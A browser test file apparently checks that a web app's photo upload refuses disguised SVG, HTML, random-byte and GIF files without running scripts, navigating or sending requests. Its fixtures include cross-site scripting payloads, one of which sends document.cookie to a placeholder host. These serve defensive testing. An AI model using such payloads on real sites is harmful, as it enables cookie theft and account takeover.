/**
 * A photo opened from a file is a verified raster image (web/src/files/raster.ts), in
 * headless Chromium: an SVG with a script, an HTML page, random bytes and a GIF, each
 * with a photo's name and type, are refused with the reason and leave the photo on
 * screen as it was; no script runs, no dialog opens, nothing navigates and no request
 * leaves the service. A real PNG declared as SVG opens, as a PNG.
 */
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import { type Harness, loadPhoto, openApp, startHarness } from '../support/browser.js'

let h: Harness
before(async () => {
  h = await startHarness()
})
after(async () => {
  await h?.close()
})

const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><script>document.title="ran";alert(1);location="http://example.invalid/?"+document.cookie</script><rect width="400" height="300"/></svg>',
)
const HTML = Buffer.from(
  '<!doctype html><html><body><script>alert(1)</script><img src=x onerror="alert(2)"></body></html>',
)
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')

describe('opening a photo from a file', () => {
  test('SVG, HTML, random bytes and GIF are refused with the reason; the photo on screen stays', async () => {
    const { page, requests, errors } = await openApp(h)
    const dialogs: string[] = []
    page.on('dialog', (d) => {
      dialogs.push(d.message())
      void d.dismiss()
    })
    await loadPhoto(page, h, 'anterior')
    const photo = page.locator('.stage image.photo')
    const shown = await photo.getAttribute('href')
    assert.match(shown ?? '', /^data:image\/png;base64,/)
    const title = await page.title()
    const url = page.url()
    for (const [name, mimeType, buffer, reason] of [
      ['scan.svg', 'image/svg+xml', SVG, 'It is an SVG drawing, not a photo'],
      ['scan.png', 'image/png', SVG, 'It is an SVG drawing, not a photo'],
      ['page.jpg', 'image/jpeg', HTML, 'It is a web page (HTML), not a photo'],
      ['noise.jpg', 'image/jpeg', randomBytes(20_000), 'Its content is not a JPEG, PNG or WebP photo'],
      ['pixel.gif', 'image/gif', GIF, 'It is a GIF image, which this app does not open'],
    ] as const) {
      await page.locator('#photo-input').setInputFiles({ name, mimeType, buffer })
      const toast = page.locator('#toast.show').filter({ hasText: `Cannot open ${name}: ${reason}` })
      await toast.waitFor()
      assert.equal(await photo.getAttribute('href'), shown, `${name}: the photo on screen is unchanged`)
    }
    assert.equal(await page.title(), title, 'no script ran')
    assert.equal(page.url(), url, 'nothing navigated')
    assert.deepEqual(dialogs, [])
    assert.deepEqual(errors, [])
    assert.deepEqual(
      requests.filter((r) => !r.startsWith(h.base)),
      [],
    )
    await page.context().close()
  })

  test('a real PNG declared as SVG opens, as the PNG its bytes are', async () => {
    const { page, errors } = await openApp(h)
    await page
      .locator('#photo-input')
      .setInputFiles({ name: 'figure.svg', mimeType: 'image/svg+xml', buffer: h.photos.lateral })
    await page.locator('.stage.has-photo image.photo').waitFor()
    assert.match((await page.locator('.stage image.photo').getAttribute('href')) ?? '', /^data:image\/png;base64,/)
    assert.deepEqual(errors, [])
    await page.context().close()
  })
})
